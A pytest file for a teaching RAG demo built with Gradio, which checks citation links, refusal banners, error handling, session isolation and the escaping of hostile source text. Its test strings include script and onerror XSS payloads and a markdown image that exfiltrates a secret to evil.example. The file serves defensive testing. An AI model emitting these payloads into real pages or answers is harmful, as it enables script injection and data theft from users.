"""Day 57's RAG demo (aicourse.demos.rag_demo_app): the render functions on their own (links, numbers that were
never sent, escaping of hostile text, refusals), then the app launched on localhost and driven with a real
gradio_client, with a fake `answer_fn` shaped like day 53's `RagAnswer.to_dict()`."""
from __future__ import annotations

import json
import logging
import re
from html.parser import HTMLParser

import pytest
from gradio_apps import launched  # also keeps gradio off the network (analytics off)
from gradio_client import Client

gr = pytest.importorskip("gradio")

from aicourse.demos import (  # noqa: E402
    MAX_QUESTION_CHARS,
    STATUS_TEXT,
    answer_status,
    rag_demo_app,
    rag_result,
    rag_sources,
    rag_turn,
    render_answer,
    render_source,
    render_sources,
    render_status,
)

HOSTILE = ('Students get 50% off <script>alert("x")</script> <img src="x" onerror="alert(1)"> '
           '![badge](https://evil.example/p.png?d=SECRET) & "quotes" \'too\'')
DOCUMENT = "Intro. Invoices are kept for 10 years. " + HOSTILE + " The end."
SOURCES = [dict(number=1, text="Invoices are kept for 10 years.", source="privacy.md", start=7, end=38, score=0.63),
           dict(number=2, text=HOSTILE, source='<b>forum</b>.md', start=39, end=39 + len(HOSTILE), score=None)]
OWN_TAGS = {"div", "b", "i", "br", "mark", "a", "span"}


class Page(HTMLParser):
    "The tags (with attributes) and the visible text a browser would build from an HTML string."
    def __init__(self, markup: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.parts: list[str] = []
        self.feed(markup)
        self.close()
        self.text = "".join(self.parts)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.parts.append(data)

    def links(self) -> list[str]:
        return [a["href"] for t, a in self.tags if t == "a"]


def result(question: str, answer: str, sources=SOURCES, **flags) -> dict:
    "A dict shaped like RagAnswer.to_dict() (the keys the app reads)."
    out = dict(question=question, answer=answer, model_answer=answer, sources=list(sources), cited=[],
               citations_ok=True, refused=False, gated=False, attributed=False, ok=True,
               seconds=dict(retrieve=0.01, generate=0.5, total=0.52))
    out["cited"] = sorted({int(n) for m in re.findall(r"\[([0-9, ]+)\]", answer) for n in m.split(",")})
    return {**out, **flags}


def fake_answer_fn(question: str) -> dict:
    "A stand-in for day 53's pipeline, picked by words of the question."
    if "Mars" in question:
        return result(question, "The sources do not answer this question.", [], gated=True, refused=True,
                      model_answer=None, gate_score=0.05)
    if "refuse" in question:
        return result(question, "The sources do not answer this question.", refused=True)
    if "crash" in question:
        raise RuntimeError("secret internal detail /srv/models")
    if "bad k" in question:
        raise ValueError("k must be >= 1, got 0")
    if "echo" in question:  # a model that repeats the hostile source
        return result(question, f"You said: {HOSTILE} [2].")
    return result(question, "Invoices are kept for 10 years [1]. Logs [1, 7].", citations_ok=False)


# --- the render functions, no server -----------------------------------------------------------------------------

def test_render_answer_links_valid_numbers_and_marks_the_others():
    answer = "Kept 10 years [1]. Also [1, 2] and [7]. Code `x[1]`, a link [2](https://e.x) and [ 2 ]."
    page = Page(render_answer(answer, SOURCES))
    assert page.text == answer  # the visible text is the answer, character for character
    assert page.links() == ["#source-1", "#source-1", "#source-2", "#source-2"]  # not in code, not the md link
    struck = [a for t, a in page.tags if t == "span"]
    assert len(struck) == 1 and "7" in struck[0]["title"]
    assert {t for t, _ in page.tags} <= OWN_TAGS
    assert Page(render_answer("No sources [1].", [])).links() == []  # nothing was sent: nothing to link


def test_render_answer_keeps_the_digits_as_written():
    answer = "Padded [01], list [1, 002] and [007]."
    page = Page(render_answer(answer, SOURCES))
    assert page.text == answer  # the link's text is the digits as written; only the anchor uses the value
    assert page.links() == ["#source-1", "#source-1", "#source-2"]
    assert [a["title"] for t, a in page.tags if t == "span"] == ["no source 007 was sent to the model"]
    huge = "[" + "9" * 5000 + "]"  # int() refuses 5000 digits: an absurd number is struck, not a crash
    assert Page(render_answer(huge, SOURCES)).text == huge and Page(render_answer(huge, SOURCES)).links() == []


def test_render_answer_escapes_model_output():
    page = Page(render_answer(f"{HOSTILE} [2]", SOURCES))
    assert page.text == f"{HOSTILE} [2]"
    assert not {"script", "img"} & {t for t, _ in page.tags}
    assert page.links() == ["#source-2"]


def test_render_sources_anchors_names_offsets_and_escaping():
    markup = render_sources(SOURCES, preview_chars=1000)
    page = Page(markup)
    assert [a["id"] for t, a in page.tags if "id" in a] == ["source-1", "source-2"]
    assert {t for t, _ in page.tags} <= OWN_TAGS  # no <script>, no <img>, not even the <b> in the file name
    assert HOSTILE in page.text and "<b>forum</b>.md" in page.text
    assert "characters 7–38" in page.text and "score 0.630" in page.text
    assert "score" not in page.text.split("[2]")[1].split("Students")[0]  # no score: none shown, not 'nan'
    assert "No sources" in Page(render_sources([])).text
    short = Page(render_sources(SOURCES, preview_chars=20))  # a long source is cut in the list, and says so
    assert HOSTILE not in short.text and "select source 2" in short.text


def test_render_source_in_context_and_when_offsets_do_not_match():
    page = Page(render_source(SOURCES[1], DOCUMENT, context_chars=10))
    assert HOSTILE in page.text and "10 years. " in page.text and not {"script", "img"} & {t for t, _ in page.tags}
    marked = [t for t, _ in page.tags if t == "mark"]
    assert marked == ["mark"]
    moved = Page(render_source({**SOURCES[0], "start": 0}, DOCUMENT))
    assert "do not match" in moved.text and "Intro." not in moved.text


def test_render_source_escapes_the_document_around_the_source():
    before, after = '<script>alert("before")</script> ', ' <img src="x" onerror="alert(1)"> ![p](https://evil.example/?d=1)'
    text = "Invoices are kept for 10 years."
    document = before + text + after
    page = Page(render_source(dict(number=1, text=text, source="d.md", start=len(before), end=len(before) + len(text)),
                              document))
    assert page.text.endswith(document) and [t for t, _ in page.tags if t == "mark"] == ["mark"]  # in context
    assert {t for t, _ in page.tags} <= OWN_TAGS  # the context is data too: no <script>, no <img>


def test_sources_are_checked():
    assert rag_sources(None) == []
    assert rag_sources([dict(number=1, text="t", score=float("nan"))])[0]["score"] is None
    np = pytest.importorskip("numpy")
    assert rag_sources([dict(number=np.int64(2), text="t", start=np.int64(0), end=1)])[0]["number"] == 2
    for bad, message in [([dict(number=0, text="t")], "whole number >= 1"), ([dict(number=True, text="t")], "whole"),
                         ([dict(number=1)], "no text"), ([dict(number=1, text="a"), dict(number=1, text="b")],
                                                         "distinct"), ("text", "list of dicts"), ([3], "expected a dict"),
                         ([dict(number=1, text="t", start=5, end=2)], "0 <= start <= end"),
                         ([dict(number=1, text="t", start=-1, end=2)], "0 <= start <= end"),
                         ([dict(number=1, text="t", start="a", end=2)], "whole number or None"),
                         ([dict(number="1", text="t")], "whole number >= 1"),
                         ([dict(number=1, text="t", score="high")], "a number or None")]:
        with pytest.raises(ValueError, match=message):
            rag_sources(bad)


@pytest.mark.parametrize("answer, flags, status", [
    ("No.", dict(gated=True, refused=True, sources=[]), "gated"), ("No.", dict(refused=True), "refused"),
    ("Kept [1]. Laptops [7].", {}, "invalid"), ("Kept.", {}, "uncited"), ("Kept [1].", dict(citations_ok=False), "uncited"),
    ("Kept [1].", dict(attributed=True), "attributed"), ("Kept [1].", {}, "cited"),
    ("Kept [1]. Laptops [7].", dict(cited=[1]), "invalid"),  # the text cites 7, whatever `cited` says
    ("Kept [1].", dict(cited=[1, 7]), "cited"),  # the page shows no 7: the banner does not either
    ("Code `x[7]` kept [1].", {}, "cited"), ("Kept [01].", {}, "cited")])
def test_answer_status_follows_the_text_and_banner(answer, flags, status):
    r = {**result("q", answer), **flags}
    assert answer_status(r) == status
    assert f"rag-{status}" in render_status(r) and "total 0.52 s" in Page(render_status(r)).text
    struck = any(t == "span" for t, _ in Page(render_answer(r["answer"], r["sources"])).tags)
    assert struck == (status == "invalid")  # the banner says "struck through" exactly when something is


def test_banner_claims_every_sentence_only_when_checked():
    r = {k: v for k, v in result("q", "Kept 10 years [1]. Laptops are free.").items() if k != "citations_ok"}
    assert answer_status(r) == "cited"
    text = Page(render_status(r)).text
    assert "Every sentence" not in text and text.startswith(STATUS_TEXT["unchecked"][1])
    assert "Every sentence" in Page(render_status({**r, "citations_ok": True})).text
    assert "Every sentence" not in Page(render_status({**r, "citations_ok": None})).text
    invalid = {**r, "answer": "Kept 10 years [1]. Laptops are free [7].", "cited": [1]}
    assert answer_status(invalid) == "invalid" and "never sent" in Page(render_status(invalid)).text


def test_rag_result_accepts_to_dict_objects_and_rejects_other_shapes():
    class Answer:
        def to_dict(self):
            return result("q", "Kept [1].")
    assert rag_result(Answer())["answer"] == "Kept [1]."
    with pytest.raises(TypeError, match="return a dict"):
        rag_result("just text")
    with pytest.raises(TypeError, match="no 'answer'"):
        rag_result(dict(sources=[]))
    for bad, message in [(dict(seconds=1.5), "'seconds' must be a dict"), (dict(seconds={"total": "x"}), "'seconds'"),
                         (dict(cited=["a"]), "cited="), (dict(cited="1"), "cited="), (dict(gate_score="x"), "gate_score"),
                         (dict(gated="false"), "gated="), (dict(citations_ok=1), "citations_ok=")]:
        with pytest.raises((TypeError, ValueError), match=message):
            rag_result({**result("q", "Kept [1]."), **bad})
    ok = rag_result({**result("q", "Kept [1]."), "gate_score": float("nan"), "seconds": {"total": float("inf")}})
    assert ok["gate_score"] is None and ok["seconds"] == {}


def test_rag_turn_gives_clear_errors():
    answer_html, sources_html, r = rag_turn("  How long?  ", fake_answer_fn)
    assert r["question"] == "How long?" and "source-1" in sources_html and "rag-invalid" in answer_html
    for question, message in [("", "The question is empty"), (None, "No question: type or paste one first."),
                              (42, "The question must be text, not int."),
                              ("x" * (MAX_QUESTION_CHARS + 1), f"the limit is {MAX_QUESTION_CHARS}"),
                              ("bad k", "k must be >= 1"), ("crash", "The answer failed")]:
        with pytest.raises(gr.Error, match=message) as e:
            rag_turn(question, fake_answer_fn, user_errors=(ValueError,))
        assert "/srv" not in str(e.value)  # an internal failure shows no details
    with pytest.raises(TypeError, match="user_errors"):
        rag_turn("q", fake_answer_fn, user_errors=("ValueError",))


def leaky(question):
    raise ValueError("could not read /srv/models/secret/tokenizer.json: token=hf_abc")


def test_only_declared_error_types_reach_the_user(caplog):
    with caplog.at_level(logging.ERROR, logger="aicourse.demos"):
        with pytest.raises(gr.Error) as e:
            rag_turn("q", leaky)  # no user_errors declared: a ValueError is a server fault too
    assert str(e.value.message) == "The answer failed on the server. Try again later, or ask another question."
    assert "/srv" in caplog.text and "tokenizer.json" in caplog.text  # the server's log keeps the details
    with pytest.raises(gr.Error, match="k must be >= 1"):
        rag_turn("bad k", fake_answer_fn, user_errors=(ValueError,))
    with pytest.raises(gr.Error, match="The answer failed on the server"):
        rag_turn("bad k", fake_answer_fn, user_errors=(KeyError,))

    def says(question):
        raise gr.Error("Ask about the documents, please.")
    with pytest.raises(gr.Error, match="Ask about the documents"):
        rag_turn("q", says)


@pytest.mark.parametrize("bad", [
    "just text", dict(answer="x", sources=[], seconds=1.5), dict(answer="x", sources=[], cited=["a"]),
    dict(answer="x", sources=[], gated=True, gate_score="high"), dict(answer="x", sources=[dict(number="1", text="t")]),
    dict(answer="x", sources=[dict(number=1, text="t", start=9, end=2)]), dict(answer=None)])
def test_a_bad_result_is_a_logged_server_fault(bad, caplog):
    with caplog.at_level(logging.ERROR, logger="aicourse.demos"):
        with pytest.raises(gr.Error) as e:
            rag_turn("q", lambda q: bad, user_errors=(ValueError, TypeError))  # the result's faults are not the user's
    assert e.value.message.startswith("The app is misconfigured") and "try again" not in e.value.message.lower()
    assert "cannot show" in caplog.text and caplog.records[-1].exc_info is not None


# --- the app, launched on localhost and driven with gradio_client ------------------------------------------------

@pytest.fixture(scope="module")
def client():
    app = rag_demo_app(fake_answer_fn, examples=["How long are invoices kept?"], title="Test RAG",
                       documents={"privacy.md": DOCUMENT, "<b>forum</b>.md": DOCUMENT}, max_chars=200,
                       user_errors=(ValueError,))
    with launched(app) as client:
        yield client


def test_app_api_has_answer_and_source(client):
    assert set(client.view_api(print_info=False, return_format="dict")["named_endpoints"]) == {"/answer", "/source"}


def test_client_gets_answer_with_links_and_sources(client):
    answer_html, sources_html, picker, detail = client.predict("How long are invoices kept?", api_name="/answer")
    page = Page(answer_html)
    assert page.links() == ["#source-1", "#source-1"]  # [7] was never sent: marked, not linked
    assert "Invoices are kept for 10 years [1]. Logs [1, 7]." in page.text and "never sent" in page.text
    assert [a["id"] for t, a in Page(sources_html).tags if "id" in a] == ["source-1", "source-2"]
    assert [c[1] for c in picker["choices"]] == [1, 2] and picker["value"] is None and detail == ""
    json.dumps([answer_html, sources_html])


def test_client_selects_a_source_and_sees_it_in_full(client):
    client.predict("How long are invoices kept?", api_name="/answer")
    page = Page(client.predict(2, api_name="/source"))
    assert HOSTILE in page.text and not {"script", "img"} & {t for t, _ in page.tags}  # escaped, in full
    assert "Invoices are kept for 10 years." in page.text  # in its document: the text around it is shown
    first = Page(client.predict(1, api_name="/source"))  # source 1 with the hostile post in its context
    assert "Invoices are kept for 10 years." in first.text and HOSTILE in first.text
    assert not {"script", "img"} & {t for t, _ in first.tags}


def test_client_hostile_echo_stays_text(client):
    answer_html, sources_html, _, _ = client.predict("echo the forum", api_name="/answer")
    for markup in (answer_html, sources_html):
        assert not {"script", "img"} & {t for t, _ in Page(markup).tags}
    assert HOSTILE in Page(answer_html).text


def test_client_sees_refusals_clearly(client):
    gated_html, sources_html, picker, _ = client.predict("Is there life on Mars?", api_name="/answer")
    assert "Refused before the model ran" in Page(gated_html).text and "rag-gated" in gated_html
    assert "No sources" in Page(sources_html).text and picker["choices"] == []
    assert "The best passage scored 0.050." in Page(gated_html).text
    refused_html = client.predict("please refuse", api_name="/answer")[0]
    assert "The model says the sources do not answer" in Page(refused_html).text


@pytest.mark.parametrize("question, message", [("", "The question is empty"), ("  \n ", "The question is empty"),
                                               ("x" * 201, "the limit is 200"), ("bad k", "k must be >= 1"),
                                               ("crash now", "The answer failed on the server")])
def test_bad_input_gets_a_clear_message(client, question, message):
    with pytest.raises(Exception, match=message):
        client.predict(question, api_name="/answer")


def one_source_answer(question: str) -> dict:
    "Source 1 for one user, source 2 for the other."
    n = 2 if "two" in question else 1
    return result(question, f"Answer [{n}].", [dict(number=n, text=f"text of source {n}", source="d.md", start=0,
                                                  end=16, score=0.5)])


def test_each_session_sees_its_own_last_answer():
    with launched(rag_demo_app(one_source_answer)) as first:
        second = Client(first.src, verbose=False, download_files=False)
        with pytest.raises(Exception, match="There is no source 1 in your last answer: ask a question first"):
            first.predict(1, api_name="/source")  # before any answer: our message, not Gradio's
        first.predict("one", api_name="/answer")
        second.predict("two", api_name="/answer")
        assert "text of source 1" in Page(first.predict(1, api_name="/source")).text
        assert "text of source 2" in Page(second.predict(2, api_name="/source")).text
        with pytest.raises(Exception, match="There is no source 2 in your last answer"):
            first.predict(2, api_name="/source")  # the other session's source
        with pytest.raises(Exception, match="There is no source 1 in your last answer"):
            second.predict(1, api_name="/source")
        with pytest.raises(Exception, match="Pick a source by its number"):
            first.predict("<b>1</b>", api_name="/source")
        assert first.predict("1", api_name="/source") == first.predict(1, api_name="/source")
